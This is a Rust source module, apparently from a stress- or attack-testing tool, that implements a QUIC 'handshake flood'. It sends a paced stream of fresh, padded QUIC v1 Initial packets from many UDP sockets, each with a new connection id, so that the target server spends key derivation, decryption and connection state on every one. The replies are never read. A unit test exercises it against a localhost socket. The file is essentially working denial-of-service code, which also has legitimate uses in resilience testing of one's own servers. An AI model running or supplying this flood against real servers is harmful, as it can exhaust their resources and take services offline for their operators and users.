//! The handshake flood: real QUIC v1 Initials, each the first packet of a
//! fresh client connection, from many sources, never answered.
//!
//! Each Initial has a new random destination connection id, so new Initial
//! keys (`initial.rs` seals one ClientHello under each), and costs the
//! server what a real newcomer costs it: deriving those keys, decrypting the
//! packet, and then a connection slot, its TLS reply and signature or, with
//! Retry on, one stateless Retry packet. A replayed Initial would be cheaper
//! still to make but cheaper to refuse too (the server routes it to the
//! connection the first copy made and drops it as a duplicate).
//!
//! The gateway's answers (its Initial and Handshake flight, or a Retry)
//! are never read: the source sockets' small receive buffers drop them.

use std::net::UdpSocket;
use std::time::Instant;

use super::initial::{INITIAL_BYTES, Template};
use super::pace::Pacer;
use super::{AttackConfig, AttackError, Tally};

/// Floods `cfg.server` with Initials from `sockets`, one after the other,
/// until the duration is over.
pub fn flood(cfg: &AttackConfig, sockets: &[UdpSocket]) -> Result<Tally, AttackError> {
    let mut template = Template::new(&cfg.server_name)?;
    let mut buf = Vec::with_capacity(INITIAL_BYTES);
    let start = Instant::now();
    let mut pacer = Pacer::new(start, cfg.duration, cfg.rate_per_s);
    let mut tally = Tally::default();
    let mut next = 0usize;
    while let Some(due) = pacer.burst(Instant::now()) {
        for _ in 0..due {
            template.seal(&mut buf)?;
            let socket = &sockets[next % sockets.len()];
            next = next.wrapping_add(1);
            match socket.send(&buf) {
                Ok(n) => {
                    tally.sent += 1;
                    tally.bytes += n as u64;
                }
                Err(_) => tally.errors += 1,
            }
        }
        pacer.wait();
    }
    tally.wall = start.elapsed();
    Ok(tally)
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::attack::{Attack, sources};

    #[test]
    fn every_initial_is_a_fresh_padded_v1_initial() {
        let target = UdpSocket::bind("127.0.0.1:0").unwrap();
        target
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut cfg = AttackConfig::new(Attack::HandshakeFlood, target.local_addr().unwrap());
        cfg.duration = Duration::from_millis(100);
        cfg.rate_per_s = 200;
        let sockets = sources::bind(cfg.server, 2, 1).unwrap();
        let tally = flood(&cfg, &sockets).unwrap();
        assert!(tally.sent >= 10, "{tally:?}");
        let mut dcids = std::collections::HashSet::new();
        let mut buf = [0u8; 2048];
        for _ in 0..tally.sent {
            let (n, _) = target.recv_from(&mut buf).unwrap();
            assert!(n >= 1200, "an Initial is padded to 1200 bytes: {n}");
            // Long header, type Initial, version 1.
            assert_eq!(buf[0] & 0xf0, 0xc0);
            assert_eq!(buf[1..5], [0, 0, 0, 1]);
            let len = usize::from(buf[5]);
            dcids.insert(buf[6..6 + len].to_vec());
        }
        assert_eq!(dcids.len() as u64, tally.sent, "no Initial is a replay");
    }
}
